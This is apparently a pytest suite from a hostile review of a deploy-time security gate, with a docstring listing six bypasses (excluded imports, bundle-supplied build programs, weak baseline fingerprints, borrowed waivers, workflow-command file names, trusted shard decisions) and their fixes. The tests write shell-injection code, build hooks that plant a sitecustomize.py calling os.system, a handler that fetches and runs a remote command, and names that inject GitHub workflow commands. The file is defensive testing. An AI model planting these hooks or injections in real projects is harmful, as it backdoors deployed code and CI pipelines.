"""A twenty-fifth hostile review of `gate check`, starting where review 24 stopped: shards
and `gate merge`, waivers and baselines, report escaping, the Serverless Framework's
packaging and the serverless-python-requirements plugin, Chalice settings, hard links.

Each attack is a confirmed problem: the test says what the gate must do, and a baseline
beside it shows the same bundle without the trick blocks. Attacks 1 to 4 exited 0 with
the hostile harness's policy (checkov off), and 1 to 3 by hand with the default policy
(checkov on) exited 0 all the same: checkov reads neither Python imports nor a plugin's
build settings, and its own findings on the template were baselined with the rest.
What lets each through:

1. The policy's `exclude` swallows code the handler imports. With `exclude:
   ["tests/**"]` (the example `gate init` writes and the README shows), a Serverless
   service at the bundle root whose handler does `from tests.helpers import run` (a
   `subprocess.run(cmd, shell=True)` there) passes: the Framework zips the whole
   service folder, `tests/` included, and the handler imports it on every call. The gate
   brings back code the handler imports from folders a *built-in* rule ignores
   (gate.bundle.staging.imports `bring_back_imported`), and refuses a handler module an
   exclude swallows ("needs tests/helpers.py, which is not in the bundle"), but what the
   handler imports from an excluded folder is counted `excluded` and read by nothing,
   without a warning (gate.bundle.resolve `stage`, the policy's exclude applied first by
   gate.bundle.staging.copy). The bundle's author picks the folder name the policy
   trusts.
2. The deploy's packaging runs a program of the bundle, and the gate judges the source
   folder as the deployed code. A Serverless local plugin (`plugins: [./plugins/x]`,
   JavaScript the Framework `require`s at `sls package`, whose hooks can write any file
   into the artifact), serverless-python-requirements' `pythonBin: ./tools/python3.12`
   (a script of the bundle the plugin runs to `pip install -t` the requirements that are
   zipped with the function) and its `dockerizePip` with `dockerFile: ./Dockerfile` (an
   image the bundle builds, whose `pip` the plugin runs the same way): each can put a
   `sitecustomize.py` (run at every start) into the zip. The gate counts the plugin,
   script or Dockerfile `not-analysed` (a warning under the default `coverage`) and
   passes. SAM's `Metadata: BuildMethod: makefile`, the same thing for `sam build`, is
   a scan error (gate.bundle.discovery.cloudformation `_MADE`); the Serverless
   reader (gate.bundle.discovery.serverless `read_serverless`, `python_requirements`)
   reads neither `plugins` nor the plugin's build settings.
3. Baseline mode matches a new high finding to a recorded low one. Bandit findings are
   fingerprinted by the first line of the flagged statement with its strings blanked
   (gate.scanners.bandit `_issue`, `raw["anchor"]`), and the fingerprint leaves out the
   severity (gate.model `Finding.fingerprint`). A baseline recorded with
   `subprocess.call(\\n "uptime",\\n shell=True)` (B602 low, `allowed`, and recorded:
   gate.policy.baseline `_BASELINABLE` takes allowed findings too) makes
   `subprocess.call(\\n urllib.request.urlopen(URL).read().decode(),\\n shell=True)` (B602
   high, blocking without the baseline) `baselined`: both anchors are `subprocess.call(`.
4. A waiver scoped to one bundle by its id is borrowed by another bundle's folder of the
   same name. A waiver's `path` is matched against a finding's path inside its bundle
   *and* against that path prefixed by the bundle id (gate.policy.model `_path_matches`).
   In `gate check legacy orders` with a waiver of B602 on `legacy/**` (the legacy
   service), the orders bundle's own `legacy/tool.py` matches by its bare path: the
   bundle's author creates the folder and its shell injection is waived.
5. A GitHub workflow command from a file or function name. GitHub's runner reads every
   line of a step's output that starts, after leading white space, with `::` as a
   workflow command. The console report prints each file's path alone on a line
   indented by two spaces (gate.reports.console `_by_severity`), the bundle id first
   unless it is `.`: a Python file at the root of `gate check .` named `::stop-commands::
   gate.py` (or `::set-output name=decision::pass.py`, or `::add-mask::...`) is such a
   command. `gate ls` prints each function's name at the start of its line
   (gate.cli.commands `_bundle_listing`): a Serverless function named `::add-mask::api`.
   `printable` escapes controls, not `::`. The README promises "a file name cannot ...
   inject ... workflow commands". The `github` format, which the composite action uses,
   escapes them (its lines all start with the gate's own `::error`/`::notice`).
6. `gate merge` trusts each shard's recorded decision. A shard report that says `pass`
   while listing a blocking finding (a partial or edited artifact) merges to exit 0
   under a verdict line that says FAIL: gate.scan.shards `_joined` takes the decision
   from the reports' `decision` fields and never from the findings it joins, and
   gate.reports.read `read_report` checks the schema, not that the decision follows
   from the findings. (A forger who also drops the findings cannot be caught without
   signed reports; this one can, for free.)

Suggested fixes, by class: code the deployed function imports is scanned wherever it
is: the bring-back of imported modules also applies to what the policy's `exclude` names
(or such an import is an error naming the module and the pattern), as the handler module
already is; every way a deploy tool builds the artifact by running a program the bundle
supplies is a scan error naming the setting, as `BuildMethod: makefile` is: Serverless
`plugins` given as paths (or under `plugins.localPath`), serverless-python-requirements'
`pythonBin`, `dockerFile`, `dockerImage`, `dockerExtraFiles`, `dockerRunCmdExtraArgs`
(kept in one list beside `_MADE`); a fingerprint anchors on the whole flagged statement
(bandit's `line_range`, strings kept or hashed) and includes the severity, or a
baselined finding whose severity rose is new; a waiver's `path` is matched in one
namespace only (the bundle id prefix when the run has several bundles, the bare path
when it has one), never both; every report line that can start with bundle text starts
with a fixed prefix instead (or text that starts with `::` is escaped, in every format
printed to a CI log, `gate ls` included); `gate merge` re-derives the decision from the
joined findings, budgets and errors (or refuses a report whose decision contradicts its
own findings).

Also tried, and the gate held: sharding (`--shard 1/2`, `2/2`) of a SAM bundle whose
shell-injection function is dealt to shard 2, plain and with its code in a deployed zip
(`CodeUri: build/b.zip`): merged, it blocks as a single run does; merging malformed
shard reports (missing `decision`, a string shard index, a shard `0/0` or `3/2`, a finding
without a fingerprint, a scanner without a version): one error line, exit 2; a handler
module inside an excluded folder (refused: not in the bundle); a hard link in the
function's code to a module inside `node_modules/` (scanned where it is: B602 blocks);
the `github` format with hostile file names (escaped); SAM `BuildMethod: makefile` (a
scan error, the precedent for attack 2). Read, and judged sound without a case: the shard
views and `keep_own` use one ownership rule (code, layers, manifests, handler), the
whole-bundle scanners see every file in every shard, and `gate merge` checks count,
indices, commit, policy, environment, version, bundles, diff base, baseline and advisory
data; the HTML report escapes every text and its script reads only data attributes;
Markdown cells are entity-escaped; JUnit and SARIF are built with ElementTree and JSON;
Chalice's settings are looked up in `_chain_lookup`'s order for every stage and the
environment of every stage is judged; bundle ids are unique.

Robustness: no traceback, hang or wordless exit 2 was met. One unclear message: a
handler module inside a folder the policy excludes is refused as "needs tests/helpers.py,
which is not in the bundle; build the code before gate check", though the file is there
and the exclude is what hides it (the message should name the pattern).

Not covered in the time: a Terraform root module (owned by no function, reported by
shard 1) whose checkov finding depends on a local module inside a function's code
folder dealt to shard 2 (shard 1's view lacks the module, shard 2 drops the finding);
`package.patterns` including files outside the service folder; the console's wrapped
lines under COLUMNS (a fold could start a line with a message's text); diff mode with
the weak bandit anchor (a touched line blocks, so only baselines were driven);
`waiver.resource` globs against Serverless function names; Chalice `automatic_layer`.

Fixed, each by its class: 1, a Python file the policy's `exclude` leaves out is
remembered like one of an ignored folder, and brought back and scanned when deployed
code imports it (or names it as a handler), with an `exclude-imported` warning naming the
pattern; what nothing imports stays excluded (gate.bundle.staging.copy `_exclude`,
gate.bundle.staging.imports `_restore`). 2, every program of the bundle the deploy runs
while it builds the package is a reference of kind `program`, refused when the bundle
holds it or it lies outside (gate.bundle.discovery.references `_program_refusal`): local
Serverless plugins (a path, or a name found in `plugins.localPath`, `.serverless_plugins`
by default), serverless-python-requirements' `pythonBin` given as a path and its
`dockerFile`; a `dockerImage` other than AWS's build images is refused
(gate.bundle.discovery.serverless `build_programs`). 3, bandit's anchor is the whole
flagged statement (its `line_range`), and a baseline records each finding's severity: a
finding more severe than the one recorded is new (gate.policy.baseline `_take`). 4, in a
run of several bundles a waiver's `path` is read from the run's folder only, bundle id
first, and an unused waiver says so (gate.policy.model `_path_matches`). 5, every report
written to a stream, in every format but `github`, and `gate ls`, escape a line a runner
would read as a workflow command (gate.reports.base `no_workflow_commands`). 6, `gate
merge` works the decision out again: never better than the joined findings (a blocking
one), budgets counted again from them, or a problem of the gate's own
(gate.scan.shards `_decision`).
"""

from __future__ import annotations

import datetime
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.hostile.conftest import (
    CHEAP_POLICY,
    HANG_TIMEOUT_S,
    HostileRun,
    Sandbox,
    assert_blocks,
    blocked_or_refused,
)


def gate(sandbox: Sandbox, *args: str, cwd: Path | None = None) -> HostileRun:
    """`gate ARGS...` in a subprocess with the sandbox's environment, from `cwd` (the
    sandbox's working directory by default), leaving the bundle as it was."""
    before = sandbox.digest()
    done = subprocess.run(
        [sys.executable, "-m", "gate", *args],
        cwd=cwd or sandbox.cwd,
        env=sandbox.environment(),
        capture_output=True,
        text=True,
        errors="replace",
        timeout=HANG_TIMEOUT_S,
        check=False,
    )
    result = HostileRun(done.returncode, done.stdout, done.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    assert sandbox.digest() == before, "the run changed the bundle"
    return result


def workflow_commands(output: str) -> list[str]:
    """The lines GitHub's runner would read as workflow commands."""
    return [line for line in output.splitlines() if line.lstrip().startswith("::")]


SERVICE = """\
service: orders
frameworkVersion: '3'
provider:
  name: aws
  runtime: python3.12
  tracing: {lambda: true}
functions:
  api:
    handler: app.handler
"""

SAM = """\
AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Resources:
  Fn:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: src/
      Handler: app.handler
      Runtime: python3.12
      Tracing: Active
"""

HARMLESS = "def handler(event, context):\n    return {'ok': True}\n"
SHELL = "import subprocess\n\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n"
"""A module whose `run` hands its argument to a shell (B602)."""

# --- 1. an excluded folder the handler imports ---------------------------------------------

EXCLUDING = CHEAP_POLICY + 'exclude: ["tests/**"]\n'


def importing_service(sandbox: Sandbox) -> None:
    """A service whose handler runs a shell command from its event through tests/."""
    sandbox.write("serverless.yml", SERVICE)
    sandbox.write(
        "app.py",
        "from tests.helpers import run\n\n\n"
        "def handler(event, context):\n    return run(event['cmd'])\n",
    )
    sandbox.write("tests/__init__.py", "")
    sandbox.write("tests/helpers.py", SHELL)


def test_code_the_handler_imports_blocks(sandbox: Sandbox) -> None:
    """The baseline: without the exclude, the shell injection in tests/helpers.py blocks."""
    importing_service(sandbox)
    run = sandbox.run()
    assert_blocks(run)
    assert "B602" in run.stdout, run.stdout[-2000:]


def test_an_excluded_handler_module_is_scanned(sandbox: Sandbox) -> None:
    """The handler module itself inside the excluded folder is deployed code: scanned all
    the same, and the warning names the pattern that would have hidden it."""
    importing_service(sandbox)
    sandbox.write("serverless.yml", SERVICE.replace("app.handler", "tests/helpers.run"))
    run = sandbox.run(policy=EXCLUDING)
    assert_blocks(run)
    assert "GATE-SLS-001" in run.stdout, run.stdout[-2000:]
    assert "[exclude-imported]" in run.stdout, run.stdout[-2000:]
    assert "tests/helpers.py: the policy excludes it ('tests/**')" in run.stdout


def test_an_excluded_module_the_handler_imports_is_scanned(sandbox: Sandbox) -> None:
    """`exclude: ["tests/**"]` does not hide code the deployed handler imports: the
    module is scanned, what it imports in turn too, and the warning says so."""
    importing_service(sandbox)
    sandbox.write("tests/helpers.py", "from tests.deeper import run\n")
    sandbox.write("tests/deeper.py", SHELL)
    sandbox.write("tests/event.json", "{}\n")
    run = sandbox.run("--format", "json", policy=EXCLUDING)
    assert_blocks(run)
    report = json.loads(run.stdout)
    assert {"B602", "GATE-SLS-001"} & {f["rule_id"] for f in report["findings"]}
    brought = [w["message"] for w in report["warnings"] if w["code"] == "exclude-imported"]
    assert any("tests/deeper.py" in message for message in brought), report["warnings"]
    # The brought-back files are counted scanned; what is not Python stays excluded.
    assert report["files"]["excluded"] == 1, report["files"]


def test_an_excluded_module_outside_the_deployed_code_stays_excluded(sandbox: Sandbox) -> None:
    """The user's exclude still holds for Python no function deploys: tests/ beside a SAM
    function whose code is src/."""
    sandbox.write("template.yaml", SAM)
    sandbox.write("src/app.py", HARMLESS)
    sandbox.write("tests/__init__.py", "")
    sandbox.write("tests/helpers.py", SHELL)
    run = sandbox.run("--format", "json", policy=EXCLUDING)
    assert run.code == 0, (run.stdout[-2000:], run.stderr)
    assert json.loads(run.stdout)["files"]["excluded"] == 2
    assert "exclude-imported" not in run.stdout


# --- 2. the packaging runs a program of the bundle ------------------------------------------

PLANTED = "import os\nos.system(os.environ.get('X', ''))\n"
"""What each build trick writes into the artifact: a sitecustomize.py run at every start."""


def local_plugin(sandbox: Sandbox) -> None:
    sandbox.write(
        "serverless.yml",
        SERVICE.replace("functions:", "plugins:\n  - ./plugins/telemetry\nfunctions:"),
    )
    sandbox.write(
        "plugins/telemetry.js",
        "'use strict';\nconst fs = require('fs');\n"
        "class Telemetry {\n  constructor(serverless) {\n    this.hooks = {\n"
        "      'before:package:createDeploymentArtifacts': () => {\n"
        f"        fs.writeFileSync('sitecustomize.py', {json.dumps(PLANTED)});\n"
        "      },\n    };\n  }\n}\nmodule.exports = Telemetry;\n",
    )


def python_requirements(sandbox: Sandbox, settings: str) -> None:
    """A service that packages its requirements with serverless-python-requirements,
    configured by `settings` (YAML lines under `pythonRequirements`)."""
    sandbox.write(
        "serverless.yml",
        SERVICE.replace(
            "functions:",
            "plugins:\n  - serverless-python-requirements\n"
            f"custom:\n  pythonRequirements:\n{settings}functions:",
        ),
    )


def python_bin(sandbox: Sandbox) -> None:
    python_requirements(sandbox, "    pythonBin: ./tools/python3.12\n")
    script = sandbox.write(
        "tools/python3.12",
        "#!/bin/sh\n"
        'python3.12 "$@" || exit 1\n'
        "target=$(echo \"$@\" | sed -n 's/.* -t \\([^ ]*\\).*/\\1/p')\n"
        f"printf '%s' {json.dumps(PLANTED)} > \"$target/sitecustomize.py\"\n",
    )
    script.chmod(0o755)


def docker_file(sandbox: Sandbox) -> None:
    python_requirements(sandbox, "    dockerizePip: true\n    dockerFile: ./Dockerfile\n")
    sandbox.write(
        "Dockerfile",
        "FROM public.ecr.aws/sam/build-python3.12\n"
        "COPY pip /usr/local/bin/pip\n"
        "RUN chmod +x /usr/local/bin/pip\n",
    )
    sandbox.write(
        "pip",
        '#!/bin/sh\n/usr/bin/pip "$@" || exit 1\n'
        f"printf '%s' {json.dumps(PLANTED)} > /var/task/sitecustomize.py\n",
    )


def plugin_folder(sandbox: Sandbox) -> None:
    """A plugin named like an npm package that the Framework finds in the bundle's
    `.serverless_plugins/` before it looks in node_modules."""
    local_plugin(sandbox)
    sandbox.write(
        "serverless.yml", SERVICE.replace("functions:", "plugins:\n  - telemetry\nfunctions:")
    )
    (sandbox.bundle / ".serverless_plugins").mkdir()
    (sandbox.bundle / "plugins/telemetry.js").rename(
        sandbox.bundle / ".serverless_plugins/telemetry.js"
    )


def docker_image(sandbox: Sandbox) -> None:
    python_requirements(
        sandbox, "    dockerizePip: true\n    dockerImage: example/python-builder:3.12\n"
    )


BUILDS = {
    "local-plugin": (local_plugin, "plugin ./plugins/telemetry"),
    "plugin-folder": (plugin_folder, "plugin telemetry"),
    "python-bin": (python_bin, "pythonBin ./tools/python3.12"),
    "docker-file": (docker_file, "dockerFile ./Dockerfile"),
    "docker-image": (docker_image, "dockerImage 'example/python-builder:3.12'"),
}


def test_the_code_a_build_would_plant_blocks(sandbox: Sandbox) -> None:
    """The baseline: the sitecustomize.py each build writes, in the service, blocks
    (B605)."""
    sandbox.write("serverless.yml", SERVICE)
    sandbox.write("app.py", HARMLESS)
    sandbox.write("requirements.txt", "six==1.16.0\n")
    sandbox.write("sitecustomize.py", PLANTED)
    run = sandbox.run()
    assert_blocks(run)
    assert "B605" in run.stdout, run.stdout[-2000:]


def test_a_sam_makefile_build_is_refused(sandbox: Sandbox) -> None:
    """The precedent: SAM building the code with the bundle's Makefile is a scan error."""
    sandbox.write("template.yaml", SAM + "    Metadata:\n      BuildMethod: makefile\n")
    sandbox.write("src/app.py", HARMLESS)
    sandbox.write("src/Makefile", "build-Fn:\n\tcp -r . $(ARTIFACTS_DIR)\n")
    run = sandbox.run()
    assert run.code == 2, (run.code, run.stdout[-2000:], run.stderr)
    assert "Makefile" in run.stderr, run.stderr


@pytest.mark.parametrize("build", sorted(BUILDS))
def test_a_build_the_bundle_runs_is_refused(sandbox: Sandbox, build: str) -> None:
    """A plugin, interpreter or image of the bundle that makes the deployed zip: the gate
    cannot see what it ships, so it refuses, naming the setting (as for `BuildMethod:
    makefile`)."""
    sandbox.write("app.py", HARMLESS)
    sandbox.write("requirements.txt", "six==1.16.0\n")
    make, named = BUILDS[build]
    make(sandbox)
    run = sandbox.run()
    assert run.code == 2, (run.code, run.stdout[-2000:], run.stderr)
    assert len(run.lines) == 1 and "serverless.yml" in run.lines[0], run.stderr
    assert named in run.lines[0], run.stderr


def test_plugins_and_builders_from_outside_the_bundle_pass(sandbox: Sandbox) -> None:
    """A plugin from npm, a Python on the runner's PATH and AWS's own build image are not
    the bundle's programs."""
    sandbox.write("app.py", HARMLESS)
    sandbox.write("requirements.txt", "six==1.16.0\n")
    python_requirements(
        sandbox,
        "    pythonBin: python3.12\n    dockerizePip: true\n"
        "    dockerImage: public.ecr.aws/sam/build-python3.12:latest\n",
    )
    run = sandbox.run()
    assert run.code == 0, (run.stdout[-2000:], run.stderr)


# --- 3. a baselined low finding covers a new high one ----------------------------------------

RECORDED = """\
import subprocess


def handler(event, context):
    subprocess.call(
        "uptime",
        shell=True,
    )
    return {"ok": True}
"""

CHANGED = """\
import subprocess
import urllib.request


def handler(event, context):
    subprocess.call(
        urllib.request.urlopen("https://ops.example.com/task").read().decode(),
        shell=True,
    )
    return {"ok": True}
"""


def baselined(sandbox: Sandbox) -> Path:
    """The baseline of the bundle with the literal command; the code then changed."""
    sandbox.write("template.yaml", SAM)
    sandbox.write("src/app.py", RECORDED)
    recorded = sandbox.base / "baseline.json"
    policy = str(sandbox.policy())
    made = gate(sandbox, "baseline", "create", str(sandbox.bundle), "--policy", policy,
                "--output", str(recorded))  # fmt: skip
    assert made.code == 0, made.stderr
    sandbox.write("src/app.py", CHANGED)
    return recorded


def test_the_changed_call_blocks_without_the_baseline(sandbox: Sandbox) -> None:
    """The baseline: the command fetched from the network is B602 high, blocking."""
    baselined(sandbox)
    run = sandbox.run()
    assert_blocks(run)
    assert "B602" in run.stdout, run.stdout[-2000:]


def test_a_new_high_finding_is_not_matched_to_a_recorded_low_one(sandbox: Sandbox) -> None:
    """The recorded B602 was low (a literal command); the new one is high: new, blocks.
    Bandit's anchor is the whole statement, and the baseline records the severity."""
    recorded = baselined(sandbox)
    assert_blocks(sandbox.run("--baseline", str(recorded)))
    assert json.loads(recorded.read_text())["findings"][0]["severity"] == "low"


# --- 4. a waiver for one bundle borrowed by another -----------------------------------------

WAIVING = (
    CHEAP_POLICY
    + f"""\
waivers:
  - rule: B602
    path: "legacy/**"
    reason: "the legacy service is retired in Q3 (PLAT-1)"
    expires: {datetime.date.today() + datetime.timedelta(days=90)}
"""
)


def two_services(sandbox: Sandbox, folder: str) -> None:
    """Bundles legacy/ (its waived finding) and orders/ (a shell injection in FOLDER)."""
    for name in ("legacy", "orders"):
        sandbox.write(f"{name}/template.yaml", SAM)
        sandbox.write(f"{name}/src/app.py", HARMLESS)
    sandbox.write("legacy/src/old.py", "import subprocess\nsubprocess.call(input(), shell=True)\n")
    sandbox.write(
        f"orders/{folder}/tool.py",
        "import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n",
    )


def check_both(sandbox: Sandbox) -> HostileRun:
    policy = str(sandbox.policy(WAIVING))
    return gate(sandbox, "check", "legacy", "orders", "--policy", policy, cwd=sandbox.bundle)


def test_another_bundles_finding_is_not_waived(sandbox: Sandbox) -> None:
    """The baseline: the orders bundle's shell injection in tools/ blocks."""
    two_services(sandbox, "tools")
    assert_blocks(check_both(sandbox))


def test_a_folder_named_like_another_bundle_does_not_borrow_its_waiver(sandbox: Sandbox) -> None:
    """orders/legacy/tool.py is not the legacy bundle: `legacy/**` does not waive it, and
    still waives the legacy bundle's own finding."""
    two_services(sandbox, "legacy")
    run = check_both(sandbox)
    assert_blocks(run)
    assert "legacy/src/old.py" in run.stdout and "legacy/legacy/tool.py" not in run.stdout
    assert "waiver-unused" not in run.stdout, run.stdout[-2000:]


# --- 5. workflow commands from file and function names --------------------------------------

COMMAND_NAMES = ("::stop-commands::gate.py", "::set-output name=decision::pass.py")


def named_files(sandbox: Sandbox) -> None:
    sandbox.write("template.yaml", SAM)
    sandbox.write("src/app.py", HARMLESS)
    for name in COMMAND_NAMES:
        sandbox.write(name, "import subprocess\nsubprocess.call(input(), shell=True)\n")


def test_the_github_format_escapes_names(sandbox: Sandbox) -> None:
    """The baseline: `--format github` blocks, and every line is the gate's own command."""
    named_files(sandbox)
    policy = str(sandbox.policy())
    run = gate(sandbox, "check", ".", "--policy", policy, "--format", "github",
               cwd=sandbox.bundle)  # fmt: skip
    assert_blocks(run)
    lines = workflow_commands(run.stdout)
    assert lines and all(line.startswith(("::error ", "::notice ")) for line in lines), lines
    assert "%3A%3Astop-commands%3A%3Agate.py" in run.stdout, run.stdout


def test_the_console_report_prints_no_workflow_command(sandbox: Sandbox) -> None:
    """`gate check .` in a GitHub job: no output line a runner reads as a command."""
    named_files(sandbox)
    policy = str(sandbox.policy())
    run = gate(sandbox, "check", ".", "--policy", policy, cwd=sandbox.bundle)
    assert_blocks(run)
    assert not workflow_commands(run.stdout + run.stderr), run.stdout


def test_gate_ls_prints_no_workflow_command(sandbox: Sandbox) -> None:
    """A Serverless function named `::add-mask::api`: no command in `gate ls` output."""
    sandbox.write("serverless.yml", SERVICE.replace("  api:", '  "::add-mask::api":'))
    sandbox.write("app.py", HARMLESS)
    run = gate(sandbox, "ls", str(sandbox.bundle))
    assert run.code == 0, run.stderr
    assert not workflow_commands(run.stdout + run.stderr), run.stdout


# --- 6. gate merge trusts each shard's decision ---------------------------------------------

SHARDED = """\
AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Resources:
  A:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: src/a/
      Handler: app.handler
      Runtime: python3.12
      Tracing: Active
  B:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: src/b/
      Handler: app.handler
      Runtime: python3.12
      Tracing: Active
"""


def shard_reports(sandbox: Sandbox) -> list[Path]:
    """Both shards' JSON reports of a bundle whose function B (shard 2) blocks."""
    sandbox.write("template.yaml", SHARDED)
    sandbox.write("src/a/app.py", HARMLESS)
    sandbox.write(
        "src/b/app.py",
        "import subprocess\n\n\ndef handler(event, context):\n"
        "    return subprocess.call(event['x'], shell=True)\n",
    )
    reports = []
    for index in (1, 2):
        report = sandbox.base / f"shard-{index}.json"
        run = sandbox.run("--shard", f"{index}/2", "--format", "json", "--output", str(report))
        assert run.code == (0, 1)[index - 1], (index, run.code, run.stderr)
        reports.append(report)
    return reports


def merge(sandbox: Sandbox, reports: list[Path]) -> HostileRun:
    return gate(sandbox, "merge", *map(str, reports))


def test_merged_shards_block(sandbox: Sandbox) -> None:
    """The baseline: the shards' reports as written merge to a block."""
    assert_blocks(merge(sandbox, shard_reports(sandbox)))


def test_a_shard_that_says_pass_over_a_blocking_finding_does_not_pass(sandbox: Sandbox) -> None:
    """Shard 2's report edited to say `pass`, its blocking finding kept: the merge must
    block (or refuse the report), not exit 0 under a FAIL line."""
    reports = shard_reports(sandbox)
    data = json.loads(reports[1].read_text(encoding="utf-8"))
    assert any(f["status"] == "blocking" for f in data["findings"])
    data["decision"] = "pass"
    reports[1].write_text(json.dumps(data), encoding="utf-8")
    blocked_or_refused(merge(sandbox, reports).code)


# --- what held -------------------------------------------------------------------------------


def test_a_hard_link_into_an_ignored_folder_is_scanned(sandbox: Sandbox) -> None:
    """src/util.py hard-linked to node_modules/x/util.py: scanned where it is, blocks."""
    sandbox.write("template.yaml", SAM)
    sandbox.write(
        "src/app.py",
        "from util import run\n\n\ndef handler(event, context):\n    return run(event['x'])\n",
    )
    target = sandbox.write(
        "node_modules/x/util.py",
        "import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n",
    )
    try:
        os.link(target, sandbox.bundle / "src" / "util.py")
    except OSError as e:
        pytest.skip(f"no hard links here: {e.strerror}")
    run = sandbox.run()
    assert_blocks(run)
    assert "B602" in run.stdout, run.stdout[-2000:]
